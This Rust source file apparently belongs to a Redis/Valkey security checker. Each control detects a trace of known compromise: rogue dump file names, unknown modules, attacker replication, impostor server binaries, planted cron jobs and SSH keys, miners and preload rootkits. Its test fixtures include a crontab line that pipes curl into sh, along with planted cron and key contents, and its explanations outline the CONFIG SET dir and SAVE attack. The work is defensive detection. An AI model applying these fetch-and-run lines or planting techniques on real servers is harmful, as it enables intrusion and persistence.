//! Traces of the known attacks on exposed servers. They are looked at and reported; nothing is touched, since they are evidence.

use crate::control::{Control, Severity, Want, Wants, fails, passes};
use crate::rule::Rule;
use crate::setting::Setting;
use crate::setting::server::ProcessFact;
use crate::value::Value;

/// One step for all of them: what is found may be a way in, and the server is no longer to be trusted.
const FIRST: &str = "take the host off the network, keep its disk for analysis, and rebuild it; rotate every secret that it held";

/// Where packages and source builds put it. Debian's redis-server is a link to redis-check-rdb.
const PROGRAMS: [&str; 10] = [
    "/usr/bin/redis-check-rdb",
    "/usr/bin/redis-server",
    "/usr/bin/redis-check-aof",
    "/usr/bin/valkey-check-rdb",
    "/usr/bin/valkey-server",
    "/usr/local/bin/redis-server",
    "/usr/local/bin/valkey-server",
    "/usr/sbin/redis-server",
    "/opt/redis/bin/redis-server",
    "/opt/bitnami/redis/bin/redis-server",
];

pub const CONTROLS: &[Control] = &[
    Control {
        id: "compromise.dump-file",
        title: "the running server saves under the name that the policy gives",
        severity: Severity::Critical,
        why: "CONFIG SET dbfilename to authorized_keys, root or a module's name is the oldest attack there is.",
        references: &["redis issue 3594", "redis issue 2885"],
        by_hand: "CONFIG GET dir, CONFIG GET dbfilename: what do they point at, and who set them?",
        wants: Wants::Instance(|p, _| {
            vec![by_hand(
                super::directive(p, "dbfilename"),
                Rule::Is(Value::text("dump.rdb")),
            )]
        }),
        cases: &[
            passes(&[("CONFIG dbfilename", "dump.rdb")]),
            fails(&[("CONFIG dbfilename", "authorized_keys")]),
        ],
    },
    Control {
        id: "compromise.modules",
        title: "no module is loaded that the policy does not name",
        severity: Severity::Critical,
        why: "A module is native code in the server: the last step of every known worm (exp.so, system.so).",
        references: &["Redis MODULE LIST", "P2PInfect, HeadCrab"],
        by_hand: "MODULE LIST names the file: look where it came from before you unload it",
        wants: Wants::Instance(|p, _| {
            vec![by_hand(
                Setting::Modules(p.redis.name.to_string()),
                Rule::Absent,
            )]
        }),
        cases: &[
            passes(&[("INFO role", "master")]),
            passes(&[("MODULE vectorset", "")]),
            fails(&[("MODULE system", "/tmp/exp.so")]),
        ],
    },
    Control {
        id: "compromise.replica-of",
        title: "the server is no replica unless the policy makes it one",
        severity: Severity::Critical,
        why: "REPLICAOF to the attacker's host is how worms deliver a module, and how they copy the data.",
        references: &["redis issue 4791", "HeadCrab"],
        by_hand: "INFO replication names the master: is it yours? If not: REPLICAOF NO ONE, after you have noted it",
        wants: Wants::Instance(|p, _| {
            let meant = ["replicaof", "slaveof", "cluster-enabled"];
            if meant
                .iter()
                .any(|name| p.redis.directives.contains_key(*name))
            {
                return Vec::new();
            }
            vec![by_hand(
                super::info(p, "role"),
                Rule::Is(Value::text("master")),
            )]
        }),
        cases: &[
            passes(&[("INFO role", "master")]),
            fails(&[("INFO role", "slave")]),
        ],
    },
    Control {
        id: "compromise.program",
        title: "the running server is a redis-server of this system",
        severity: Severity::Critical,
        why: "Malware calls itself redis-server and runs from /tmp, /dev/shm or a deleted file.",
        references: &["proc_pid_exe(5)"],
        by_hand: "ls -l /proc/PID/exe; dpkg -S on what it names; a deleted one was replaced by an upgrade, or removed on purpose",
        wants: Wants::Instance(|p, _| {
            let setting = Setting::Process {
                instance: p.redis.name.to_string(),
                what: ProcessFact::Executable,
            };
            let known = PROGRAMS
                .iter()
                .map(|path| [Value::text(*path), Value::text(format!("{path} (deleted)"))]);
            vec![by_hand(setting, Rule::OneOf(known.flatten().collect()))]
        }),
        cases: &[
            passes(&[
                ("INFO process_id", "77"),
                ("/proc/77/exe -> /usr/bin/redis-check-rdb", ""),
            ]),
            passes(&[
                ("INFO process_id", "77"),
                ("/proc/77/exe -> /usr/bin/redis-check-rdb (deleted)", ""),
            ]),
            fails(&[
                ("INFO process_id", "77"),
                ("/proc/77/exe -> /dev/shm/redis-server", ""),
            ]),
        ],
    },
    Control {
        id: "compromise.login-keys",
        title: "nobody can log in as the service user",
        severity: Severity::Critical,
        why: "An .ssh directory in the data directory is what CONFIG SET dir and SAVE were misused for.",
        references: &["redis issue 3594"],
        by_hand: "look at what is in it, and at sshd's log",
        wants: Wants::Instance(|p, _| {
            vec![by_hand(
                Setting::Presence(p.data_dir().join(".ssh")),
                Rule::Absent,
            )]
        }),
        cases: &[
            passes(&[("/var/lib/redis/ 0750 redis:redis", "")]),
            fails(&[("/var/lib/redis/.ssh/ 0700 redis:redis", "")]),
        ],
    },
    Control {
        id: "compromise.cron",
        title: "the service user has no cron jobs",
        severity: Severity::Critical,
        why: "A dump that is written to the cron directory runs as a program: Debian's cron skips the lines that it cannot read.",
        references: &["crontab(1)", "redis issue 3594"],
        by_hand: "crontab -u redis -l, and look at who wrote it",
        wants: Wants::Instance(|p, _| {
            let dir = std::path::Path::new("/var/spool/cron/crontabs");
            vec![by_hand(Setting::Presence(dir.join(p.user())), Rule::Absent)]
        }),
        cases: &[
            passes(&[("/var/spool/cron/crontabs/ 1730 root:root", "")]),
            fails(&[(
                "/var/spool/cron/crontabs/redis 0600 redis:redis",
                "* * * * * curl x | sh\n",
            )]),
        ],
    },
    Control {
        id: "compromise.planted",
        title: "no dump, and no file of the service user's, lies where programs are started from",
        severity: Severity::Critical,
        why: "CONFIG SET dir and SAVE write a dump with the attacker's lines in it: cron and sshd read past the rest.",
        references: &["redis issue 3594", "cron(8)", "sshd(8) authorized_keys"],
        by_hand: "look at the files named, and at what they started",
        wants: Wants::Instance(|p, _| {
            vec![by_hand(Setting::Planted(p.user().to_owned()), Rule::Absent)]
        }),
        cases: &[
            passes(&[("/etc/cron.d/e2scrub_all 0644 root:root", "# cron\n")]),
            passes(&[("/etc/cron.d/ 0755 root:root", "")]),
            fails(&[(
                "/etc/cron.d/root 0644 root:root",
                "REDIS0009\n* * * * * root x\n",
            )]),
            fails(&[(
                "/root/.ssh/authorized_keys 0600 root:root",
                "REDIS0009\nssh-rsa x\n",
            )]),
            fails(&[("/etc/cron.d/job 0644 redis:redis", "* * * * * root x\n")]),
        ],
    },
    Control {
        id: "compromise.foreign-files",
        title: "nothing lies in the data directory that no Redis wrote",
        severity: Severity::High,
        why: "Modules, scripts and key files are dropped where the server may write, often under the name of a dump.",
        references: &[
            "HeadCrab",
            "P2PInfect",
            "redis rdb.h",
            "redis cluster.c nodes.conf",
            "Redis Enterprise 6.x STIG RD6X-00-007500",
        ],
        by_hand: "look at the files named, when they were written and by whom; do not run them; keep backups of yours elsewhere",
        wants: Wants::Instance(|p, _| {
            vec![by_hand(Setting::Strangers(p.data_dir()), Rule::Absent)]
        }),
        cases: &[
            passes(&[
                ("/var/lib/redis/dump.rdb 0640 redis:redis", "REDIS0010"),
                ("/var/lib/redis/temp-77.rdb 0640 redis:redis", ""),
                ("/var/lib/redis/nodes.conf 0640 redis:redis", "x"),
                (
                    "/var/lib/redis/appendonlydir/appendonly.aof.1.base.rdb 0640 redis:redis",
                    "REDIS0010",
                ),
                (
                    "/var/lib/redis/appendonlydir/appendonly.aof.manifest 0640 redis:redis",
                    "file",
                ),
                // A rollback to a configuration without one sets an append-only file aside.
                (
                    "/var/lib/redis/appendonlydir.set-aside-20261123T144052Z/appendonly.aof.1.incr.aof 0640 redis:redis",
                    "",
                ),
            ]),
            fails(&[(
                "/var/lib/redis/appendonlydir.set-aside-20261123T144052Z/exp.so 0640 redis:redis",
                "x",
            )]),
            fails(&[("/var/lib/redis/exp.so 0640 redis:redis", "x")]),
            fails(&[("/var/lib/redis/authorized_keys 0640 redis:redis", "x")]),
            fails(&[(
                "/var/lib/redis/dump.rdb 0640 redis:redis",
                "\x7fELF\x02\x01",
            )]),
            fails(&[("/var/lib/redis/dump.rdb 0750 redis:redis", "REDIS0010")]),
            fails(&[("/var/lib/redis/dump.rdb -> /etc/passwd", "")]),
            fails(&[("/var/lib/redis/.x/ 0700 redis:redis", "")]),
            fails(&[("/var/lib/redis/appendonlydir/kinsing 0640 redis:redis", "x")]),
        ],
    },
    Control {
        id: "compromise.foreign-processes",
        title: "nothing runs as the service user but Redis and its supervisor",
        severity: Severity::Critical,
        why: "Miners and shells that come in through Redis run as its user, by whatever name; each is told by the file that it runs, which must be root's.",
        references: &["kinsing, kdevtmpfsi", "proc_pid_exe(5)"],
        by_hand: "ls -l /proc/PID/exe of the processes named, before you kill them",
        wants: Wants::Instance(|p, f| match f.offline {
            true => Vec::new(),
            false => vec![by_hand(
                Setting::Processes(p.user().to_owned()),
                Rule::Absent,
            )],
        }),
        cases: &[
            passes(&[
                ("/usr/bin/redis-check-rdb 0755 root:root", "x"),
                ("/proc/77/ 0555 redis:redis", ""),
                ("/proc/77/comm", "redis-server\n"),
                ("/proc/77/exe -> /usr/bin/redis-check-rdb", ""),
            ]),
            fails(&[
                ("/proc/78/ 0555 redis:redis", ""),
                ("/proc/78/comm", "redis-server\n"),
                ("/proc/78/exe -> /dev/shm/kdevtmpfsi", ""),
            ]),
            fails(&[
                ("/var/lib/redis/redis-server 0755 redis:redis", "x"),
                ("/proc/78/ 0555 redis:redis", ""),
                ("/proc/78/comm", "redis-server\n"),
                ("/proc/78/exe -> /var/lib/redis/redis-server", ""),
            ]),
        ],
    },
    Control {
        id: "compromise.unknown-server",
        title: "no Redis runs here that the policy does not know",
        severity: Severity::High,
        why: "One that somebody started by hand has no password, no filter and no sandbox; nothing else here judges it.",
        references: &["proc_pid_exe(5)", "proc_pid_comm(5)"],
        by_hand: "ss -ltnp shows what it listens on; stop it, or give it an instance of its own ([redis] name)",
        wants: Wants::Host(|_, f| match f.offline {
            true => Vec::new(),
            false => vec![Want::by_hand(
                Setting::UnknownServers,
                Rule::Absent,
                "ss -ltnp shows what it listens on; stop it, or give it an instance of its own ([redis] name)",
            )],
        }),
        cases: &[
            passes(&[
                ("INFO process_id", "77"),
                ("/proc/77/comm", "redis-server\n"),
                ("/proc/77/exe -> /usr/bin/redis-check-rdb", ""),
            ]),
            fails(&[
                ("/proc/79/comm", "redis-server\n"),
                ("/proc/79/exe -> /usr/bin/redis-check-rdb", ""),
                ("/proc/79/status", "@proc/status-resident"),
            ]),
            fails(&[
                ("/proc/79/comm", "kworker/0:1\n"),
                ("/proc/79/exe -> /usr/local/bin/redis-server", ""),
                ("/proc/79/status", "@proc/status-resident"),
            ]),
        ],
    },
    Control {
        id: "compromise.preload",
        title: "no library is forced into every program",
        severity: Severity::High,
        why: "/etc/ld.so.preload is how the rootkits of these worms hide their processes; few hosts have an honest one.",
        references: &["ld.so(8)", "Migo, HeadCrab"],
        by_hand: "look at the library that it names; waive this where it is yours",
        wants: Wants::Host(|_, _| {
            vec![by_hand(
                Setting::Presence("/etc/ld.so.preload".into()),
                Rule::Absent,
            )]
        }),
        cases: &[
            passes(&[]),
            fails(&[("/etc/ld.so.preload", "/usr/local/lib/libprocesshider.so\n")]),
        ],
    },
];

fn by_hand(setting: Setting, rule: Rule) -> Want {
    Want::by_hand(setting, rule, FIRST)
}
